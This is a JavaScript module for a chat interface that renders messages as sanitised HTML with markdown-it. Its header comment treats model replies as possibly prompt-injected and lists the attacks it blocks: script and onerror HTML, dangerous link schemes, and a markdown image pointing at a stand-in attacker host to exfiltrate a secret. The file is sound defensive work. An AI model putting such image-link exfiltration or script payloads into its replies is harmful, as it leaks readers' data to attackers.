// Message text → safe HTML, with markdown-it (vendored from npm, see gateway/assets.py).
//
// Every message goes through here: people's and assistants', streaming or stored, so a reply
// looks the same while it grows, when it is finished and after a reload. Replies are written
// by a model that reads whatever people post (prompt injection), so the output is hostile
// input like any message:
//   - raw HTML is off: `<img onerror>` or `<script>` in a message is escaped, shown as text;
//   - links keep markdown-it's scheme check (no javascript:, vbscript:, file:, data:) and open
//     in a new tab without an opener or a referrer;
//   - images are off: a reply that embeds `![](https://attacker/?q=<secret>)` would make every
//     reader's browser fetch it (the known exfiltration trick against chat UIs); the alt text
//     and link stay readable as a link instead;
//   - the text is parsed whole each time (a reply is at most a few hundred KB), so a half-
//     streamed `**bold` simply shows as text until its closing marks arrive.
import markdownit from "markdown-it";

const md = markdownit({
  html: false, // never pass raw HTML through
  linkify: true, // bare URLs become links (through the same scheme check)
  breaks: true, // a chat message's single newlines are line breaks, as people type them
  typographer: false,
});
md.disable(["image"]);

const defaultLinkOpen = md.renderer.rules.link_open
  || ((tokens, idx, options, env, self) => self.renderToken(tokens, idx, options));
md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  token.attrSet("target", "_blank");
  token.attrSet("rel", "noopener noreferrer nofollow");
  return defaultLinkOpen(tokens, idx, options, env, self);
};

export function renderMarkdown(text) {
  if (typeof text !== "string" || !text) return "";
  return md.render(text);
}
